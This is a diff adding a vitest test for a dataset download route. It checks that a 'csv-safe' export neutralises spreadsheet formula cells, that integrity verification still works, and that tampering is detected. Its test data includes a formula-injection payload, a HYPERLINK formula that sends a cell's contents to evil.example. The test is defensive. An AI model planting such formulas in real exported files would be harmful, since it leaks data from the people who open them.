@@ -5,6 +5,7 @@ import sharp from "sharp";
 import { beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { GET as downloadRoute } from "@/app/api/datasets/[versionId]/download/route";
 import { getEnv } from "@/lib/env";
+import { parseCsv } from "@/lib/domain/manifest/csv";
 import { openZipArchive } from "@/lib/jobs/export/zip-archive";
 import { verifyExportArchive, type VerifyReport } from "@/lib/jobs/export/verify-export";
 import { createApiKey, revokeApiKey } from "@/lib/server/api-keys/api-keys";
@@ -298,6 +299,48 @@ describe("prebuild: the worker builds published downloads before anyone asks", (
     utimesSync(path.join(dir, ".tmp", "dead.zip.1"), hourAgo, hourAgo);
     expect(await cache.sweepTemporaryFiles(60_000)).toBe(1);
     expect(readdirSync(path.join(dir, ".tmp"))).toEqual(["live.zip.2"]);
+  });
+});
+
+describe("download: CSV for spreadsheets", () => {
+  const risky = ['=HYPERLINK("http://evil.example/?x="&A1,"Click for the full review")', "+1 great", "-5 stars", "@SUM(A1:A9)", "\tindented", "'quoted already", "Plain text."];
+
+  it("passes formula-like cells through in csv (the hashed bytes), and neutralises them in csv-safe, which still verifies", async () => {
+    const version = await publishedVersion({ contributors: [contributor], samples: risky.map((t, i) => ({ text: t, labels: i % 2 ? "positive" : "negative" })) });
+    await purchase(version.versionId, buyer.id);
+    const cells = async (bytes: Buffer, name: string) => {
+      writeFileSync(path.join(scratch, name), bytes);
+      const entries = await zipEntries(path.join(scratch, name));
+      return [...entries].filter(([n]) => n.startsWith("data/")).flatMap(([, b]) => parseCsv(b.toString("utf8")).slice(1).flatMap((r) => r.fields));
+    };
+
+    const plain = await download(buyer, version.versionId, { format: "csv" });
+    expect(plain.status).toBe(200);
+    expect(await cells(plain.bytes, "plain.zip")).toContain(risky[0]);
+    expect((await verifyBytes(plain.bytes, "plain.zip")).findings).toEqual([]);
+
+    const safe = await download(buyer, version.versionId, { format: "csv-safe" });
+    expect(safe.status).toBe(200);
+    expect(safe.headers.get("content-disposition")).toMatch(/-v1-csv-safe\.zip"$/);
+    expect(safe.headers.get("etag")).not.toBe(plain.headers.get("etag"));
+    const safeCells = await cells(safe.bytes, "safe.zip");
+    expect(safeCells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(safeCells).toContain(`'${risky[0]}`);
+    expect(safeCells).toContain("''quoted already");
+    expect(safeCells).toContain("Plain text.");
+    const report = await verifyBytes(safe.bytes, "safe.zip");
+    expect(report.findings).toEqual([]);
+    expect(report.computedRoot).toBe(version.merkleRoot);
+    expect(report.manifest?.cells).toBe("spreadsheet-safe");
+
+    // A neutralised cell is still checked against its hash: a change inside it is found.
+    await rewriteZip(path.join(scratch, "safe.zip"), path.join(scratch, "safe-tampered.zip"), (name, bytes) => {
+      if (!name.startsWith("data/") || !bytes.includes("'=HYPERLINK")) return bytes;
+      const after = Buffer.from(bytes.toString("utf8").replace("'=HYPERLINK(", "'=HYPERLINK( "));
+      expect(after.equals(bytes)).toBe(false);
+      return after;
+    });
+    expect((await verifyFile(path.join(scratch, "safe-tampered.zip"))).findings).toContainEqual(expect.objectContaining({ problem: expect.stringMatching(/text hashes to/) }));
   });
 });
 
